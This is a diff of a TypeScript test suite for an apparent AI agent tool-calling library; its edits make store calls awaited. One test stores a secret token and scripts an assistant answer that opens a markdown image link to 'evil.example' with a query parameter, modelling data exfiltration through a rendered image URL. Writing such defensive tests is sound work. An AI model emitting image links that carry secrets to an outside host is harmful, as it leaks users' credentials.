@@ -32,7 +32,7 @@ describe("what a tool's schema says of a value that it refuses", () => {
     ["a validator that says no more than the value", mute, "its schema refuses it."],
     ["zod", z.object({ n: z.number() }), "n: Invalid input"],
   ])("does not hold the value: %s", async (_, inputSchema, said) => {
-    const store = storeWith({ rows });
+    const store = await storeWith({ rows });
     const { run } = await runOnce(
       tool({ inputSchema, execute: () => 1 }),
       { n: "$rows" },
@@ -50,7 +50,7 @@ describe("a URL that one text of an answer opens", () => {
     const chat = new Conversation({
       tools: { noop: tool({ inputSchema: z.object({}), execute: () => 1 }) },
     });
-    chat.store.save({ name: "token", value: SECRET });
+    await chat.store.save({ name: "token", value: SECRET });
     const turn = await chat.say({
       steps: [
         [text("See ![x](https://evil.example/?q="), toolCall("noop", {}), asked],
@@ -63,7 +63,7 @@ describe("a URL that one text of an answer opens", () => {
 
 describe("whole references", () => {
   it("count towards what one input may bring in, and nothing runs above it", async () => {
-    const store = storeWith({ big: "x".repeat(limits.maxResolvedInputChars / 2) });
+    const store = await storeWith({ big: "x".repeat(limits.maxResolvedInputChars / 2) });
     let runs = 0;
     const act = tool({ inputSchema: z.array(z.string()), execute: () => ++runs });
     const at = await runOnce(act, ["$big", "$big"], { store });
@@ -76,7 +76,7 @@ describe("whole references", () => {
 
 describe("a tool that changes what it is given", () => {
   it("changes neither its variable's name, nor what the next call is taken for", async () => {
-    const store = storeWith({ city: "Oslo" });
+    const store = await storeWith({ city: "Oslo" });
     let calls = 0;
     const act = tool({
       inputSchema: jsonSchema<Record<string, unknown>>({ type: "object" }),
@@ -156,7 +156,7 @@ describe("an agent that writes references its own way", () => {
         references: { syntaxes: ["mustache"], inCode: true, unknown: "error" },
       },
     });
-    chat.store.save({ name: "x", value: [1] });
+    await chat.store.save({ name: "x", value: [1] });
     const turn = await chat.say({
       steps: [
         [
